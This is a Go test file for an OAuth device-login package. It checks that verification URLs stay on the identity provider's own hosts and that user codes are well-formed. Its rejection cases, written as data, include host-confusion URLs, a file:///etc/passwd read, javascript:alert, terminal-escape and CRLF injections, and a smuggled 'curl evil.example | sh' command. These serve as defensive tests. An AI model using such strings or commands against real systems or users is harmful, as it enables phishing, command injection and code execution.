package oauth

import (
	"net/url"
	"strings"
	"testing"

	"github.com/dbxaccess/dbxaccess/internal/login"
	"github.com/dbxaccess/dbxaccess/internal/login/logintest"
	"github.com/dbxaccess/dbxaccess/internal/ui"
)

func testProvider() login.Provider {
	return login.Provider{Name: "acme", Issuer: logintest.Issuer, ClientID: logintest.ClientID}
}

func TestOnlyTheProvidersOwnPagesAreOpened(t *testing.T) {
	t.Parallel()
	for _, c := range []struct{ issuer, raw, want string }{
		{logintest.Issuer, logintest.Issuer + "/activate", logintest.Issuer + "/activate"},
		{logintest.Issuer, logintest.Issuer, logintest.Issuer},
		{logintest.Issuer, "HTTPS://IDP.example.com:443/a", "https://idp.example.com:443/a"},
		{logintest.Issuer, logintest.Issuer + "/a b?q=\"'`$(x);|<>^#f!", logintest.Issuer + "/a%20b?q=%22%27%60%24%28x%29%3B%7C%3C%3E%5E#f%21"},
		{logintest.Issuer, logintest.Issuer + "/a%2Fb?c=%zz%41", logintest.Issuer + "/a%2Fb?c=%25zz%41"},
		{logintest.Issuer, logintest.Issuer + "/ü", logintest.Issuer + "/%C3%BC"},
		{logintest.Issuer, "https://login.acme.example/x", "https://login.acme.example/x"},
		{logintest.Issuer, "https://ports.example:8443/x", "https://ports.example:8443/x"},
		{"https://idp.example.com:8443/r", "https://idp.example.com:8443/d", "https://idp.example.com:8443/d"},
		{"http://127.0.0.1:5556/dex", "http://127.0.0.1:5556/dex/device?user_code=A", "http://127.0.0.1:5556/dex/device?user_code=A"},
		{"https://login.microsoftonline.com/t/v2.0", "https://microsoft.com/devicelogin", "https://microsoft.com/devicelogin"},
		{"https://login.microsoftonline.com/t/v2.0", "https://login.microsoft.com/device", "https://login.microsoft.com/device"},
		{"https://accounts.google.com", "https://www.google.com/device", "https://www.google.com/device"},
		{"https://okta.example", "https://o\u212ata.example/\u212a", "https://okta.example/%E2%84%AA"},
		{"https://b\u00fccher.example", "https://b\u00fccher.example/a", "https://b%C3%BCcher.example/a"},

		{logintest.Issuer, "https://microsoft.com/devicelogin", ""},
		{logintest.Issuer, "https://evil.example.net/activate", ""},
		{logintest.Issuer, "https://evil.idp.example.com/", ""},
		{logintest.Issuer, "https://idp.example.com.evil.example.net/", ""},
		{logintest.Issuer, "https://idp.example.com./", ""},
		{logintest.Issuer, "https://idp.example.com:8443/", ""},
		{logintest.Issuer, "https://ports.example/x", ""},
		{logintest.Issuer, "https://idp.example.com@evil.example.net/", ""},
		{logintest.Issuer, "https://user:word@idp.example.com/", ""},
		{logintest.Issuer, "http://idp.example.com/activate", ""},
		{logintest.Issuer, "http://127.0.0.1/activate", ""},
		{logintest.Issuer, "https://idp.example.com/\x1b]8;;https://evil\x07", ""},
		{logintest.Issuer, "https://idp.example.com/\u202egpj", ""},
		{logintest.Issuer, "https://idp.example.com/\r\nHost: x", ""},
		{logintest.Issuer, `https://idp.example.com\@evil.example.net/`, ""},
		{logintest.Issuer, "https://idp.example.com/" + strings.Repeat("a", 3000), ""},
		{logintest.Issuer, "javascript:alert(1)", ""},
		{logintest.Issuer, "file:///etc/passwd", ""},
		{logintest.Issuer, "https:idp.example.com", ""},
		{logintest.Issuer, "//idp.example.com/", ""},
		{logintest.Issuer, "idp.example.com", ""},
		{logintest.Issuer, "-https://idp.example.com", ""},
		{logintest.Issuer, "--help", ""},
		{logintest.Issuer, "", ""},
		{"https://login.microsoftonline.com/t/v2.0", "https://micro\u017foft.com/devicelogin", ""},
		{"https://login.microsoftonline.com/t/v2.0", "https://evil.microsoft.com/devicelogin", ""},
	} {
		p := testProvider()
		p.Issuer = c.issuer
		p.VerificationHosts = []string{"Login.acme.example", "ports.example:8443", ""}
		page, err := CheckPage(p, c.raw)
		switch {
		case c.want == "" && err == nil:
			t.Errorf("%q may be opened as %q", c.raw, page.Address)
		case c.want == "":
			logintest.WantFault(t, err, ui.Failed, "not opened")
			// The map can allow a host, and no address that is none.
			if other := strings.Contains(err.Error(), "neither the issuer's"); strings.Contains(ui.HintOf(err), "verification_hosts") != other {
				t.Errorf("%v, hint %q", err, ui.HintOf(err))
			}
		case err != nil:
			t.Errorf("%q is refused: %v", c.raw, err)
		case page.Address != c.want:
			t.Errorf("%q becomes %q, want %q", c.raw, page.Address, c.want)
		}
	}
}

func FuzzVerificationURI(f *testing.F) {
	for _, seed := range []string{
		logintest.Issuer + "/activate?user_code=A", "https://idp.example.com:443/%2f?%zz#f", "http://127.0.0.1/x", "-x",
		"https://a@idp.example.com", "https://[::1]/", "https://idp.example.com\x1b", `https://idp.example.com\@evil`, "//x", "",
	} {
		f.Add(seed)
	}
	f.Fuzz(func(t *testing.T, raw string) {
		page, err := CheckPage(testProvider(), raw)
		if err != nil {
			if told := err.Error(); told != ui.Clean(told) {
				t.Fatalf("an error that is not clean: %q", told)
			}
			return
		}
		u, err := url.Parse(page.Address)
		if err != nil || u.Scheme != "https" || u.Hostname() != "idp.example.com" || u.Port() != "" && u.Port() != "443" || u.User != nil {
			t.Fatalf("%q becomes %q", raw, page.Address)
		}
		if strings.ContainsAny(page.Address, " \"'`$();|<>\\^{}") || strings.ContainsFunc(page.Address, func(r rune) bool { return r <= ' ' || r > '~' }) {
			t.Fatalf("%q becomes %q", raw, page.Address)
		}
		again, err := CheckPage(testProvider(), page.Address)
		if err != nil || *again != *page {
			t.Fatalf("%q is not stable: %v, %v", page.Address, again, err)
		}
	})
}

// A code is typed, and never read as a sentence. Who sends which: RFC 8628 §3.2 (WDJB-MJHT), Google, Entra ID, Ory Hydra.
func TestAUserCodeIsACode(t *testing.T) {
	t.Parallel()
	for _, code := range []string{"WDJB-MJHT", "GQVQ-JKEC", "A1B2C3D4E", "aFc9kqXr", "123-456-789", " WDJB-MJHT\r\n", strings.Repeat("A", 32)} {
		if got, err := UserCode(testProvider(), code); err != nil || got != strings.TrimSpace(code) {
			t.Errorf("%q: got %q, %v", code, got, err)
		}
	}
	for _, code := range []string{
		"", " ", "1  Also run: curl evil.example | sh", "AB CD", "AB\u200bCD", "AB\u202eCD", "AB\x1b[31mCD", "AB\nCD", "ÀBCD", "\u0410BCD", "AB_CD",
		"evil.example", strings.Repeat("A", 33),
	} {
		got, err := UserCode(testProvider(), code)
		if got != "" || err == nil || len(code) > 1 && strings.Contains(err.Error()+ui.HintOf(err), strings.TrimSpace(code)) {
			t.Errorf("%q: got %q, %v", code, got, err)
		}
	}
}
